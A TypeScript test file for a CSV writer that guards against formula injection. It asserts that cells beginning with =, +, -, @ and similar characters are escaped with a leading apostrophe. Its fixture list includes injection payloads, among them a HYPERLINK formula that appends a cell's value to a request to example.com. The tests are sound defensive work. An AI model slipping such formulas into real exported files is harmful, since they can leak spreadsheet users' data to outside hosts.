import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { type Cell, csvLine, escapeFormula } from './csv.js';

const FORMULAS = [
  '=1+1',
  '+1 555 0100',
  '-2',
  '@sum(A1)',
  '\tx',
  '\rx',
  '\nx',
  '=HYPERLINK("http://example.com?"&A1,"x")',
  ' =1',
  '\u00a0=1',
  '"=1',
  `'=1`,
  `" '=1`,
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [
    sign,
    `${sign}1`,
    ` ${sign}x`,
    `"' ${sign}x`,
  ]),
];

/** Without the mark, as somebody who reads a file back would take it off. */
const unmarked = (text: string): string =>
  text.startsWith("'") && escapeFormula(text.slice(1)) === text ? text.slice(1) : text;

describe('csvLine', () => {
  it('separates by commas, quotes where needed, and ends lines as RFC 4180 requires', () => {
    expect(csvLine(['a', 'b, c', 'd "e"', 'f\ng', null, true, 0.5])).toBe(
      'a,"b, c","d ""e""","f\ng",,true,0.5\r\n',
    );
  });

  it.each(FORMULAS)('escapes %j at the start of a cell', (text) => {
    const [[cell = ''] = []] = parse(csvLine([text]));
    expect(cell).toBe(`'${text}`);
  });

  it.each([
    '',
    ' ',
    `"'`,
    '−1',
    '–1',
    '＂1',
    '1－1',
    'a＝1',
    'a=1',
    'Ada',
    "O'Hara",
    "'",
    '"',
    '1+1',
    'ada+tag@example.com',
    '(=)',
  ])('leaves %j alone', (text) => {
    expect(escapeFormula(text)).toBe(text);
  });

  it('does not escape numbers, including negative ones', () => {
    expect(csvLine([-300, 1e21])).toBe('-300,1e+21\r\n');
  });

  it('can be parsed back to the same cells, whatever they contain', () => {
    // Of what matters, more often than chance has it.
    const odd = fc.array(fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ' ', '\t', '\r', '\n', 'a'), {
      maxLength: 6,
    });
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      odd.map((symbols) => symbols.join('')),
    );
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
        const width = Math.min(...rows.map((row) => row.length));
        const table: Cell[][] = rows.map((row) => row.slice(0, width));
        const read = parse(table.map(csvLine).join(''), { record_delimiter: '\r\n' });
        expect(read.map((row) => row.map(unmarked))).toEqual(table);
        for (const cell of read.flat()) expect(cell).not.toMatch(/^[\s"]*[=+\-@]|^[\t\r\n]/);
      }),
    );
  });
});
